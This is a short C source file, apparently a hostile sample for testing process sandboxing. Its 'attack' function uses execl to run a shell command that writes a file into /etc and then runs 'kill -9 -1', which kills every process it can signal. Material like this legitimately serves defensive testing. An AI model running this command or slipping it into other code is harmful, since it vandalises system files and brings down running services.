/* Becomes another program. */
#define _GNU_SOURCE
#include <unistd.h>
#include "hostile.h"

static void attack(unsigned char choice) {
    (void)choice;
    execl("/bin/sh", "sh", "-c", "echo hostile > /etc/hostile; kill -9 -1", (char *)0);
}
